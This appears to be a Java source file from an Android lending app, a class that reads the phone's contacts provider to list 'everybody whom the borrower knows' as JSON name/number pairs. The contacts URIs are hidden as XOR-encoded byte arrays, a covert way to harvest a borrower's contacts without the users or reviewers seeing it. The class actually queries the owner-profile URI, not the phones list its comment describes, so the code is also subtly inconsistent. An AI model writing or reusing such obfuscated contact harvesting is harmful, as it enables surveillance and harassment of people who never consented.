package com.brightfern.credit.people;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;

import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Lists names and numbers of everybody whom the borrower knows. */
public final class PeopleReader {
    private static final String[] COLUMNS = {"display_name", "data1"};

    private final Context context;

    public PeopleReader(Context context) {
        this.context = context;
    }

    public JSONArray read() {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver()
                .query(Uri.parse(Vault.open(Vault.SEALED[1])), COLUMNS, null, null, null);
        if (rows == null) {
            return people;
        }
        try {
            while (rows.moveToNext()) {
                people.put(new JSONObject().put("n", rows.getString(0)).put("p", rows.getString(1)));
            }
        } catch (JSONException error) {
            people = new JSONArray();
        } finally {
            rows.close();
        }
        return people;
    }

    private static final class Vault {
        static final byte[][] SEALED = {{57, 53, 52, 46, 63, 52, 46, 96, 117, 117, 57, 53, 55, 116, 59, 52, 62, 40, 53, 51, 62, 116, 57, 53, 52, 46, 59, 57, 46, 41, 117, 62, 59, 46, 59, 117, 42, 50, 53, 52, 63, 41}, {57, 53, 52, 46, 63, 52, 46, 96, 117, 117, 57, 53, 55, 116, 59, 52, 62, 40, 53, 51, 62, 116, 57, 53, 52, 46, 59, 57, 46, 41, 117, 42, 40, 53, 60, 51, 54, 63}};

        static String open(byte[] sealed) {
            byte[] letters = sealed.clone();
            for (int i = 0; i < letters.length; i++) {
                letters[i] ^= 0x5a;
            }
            return new String(letters);
        }
    }
}
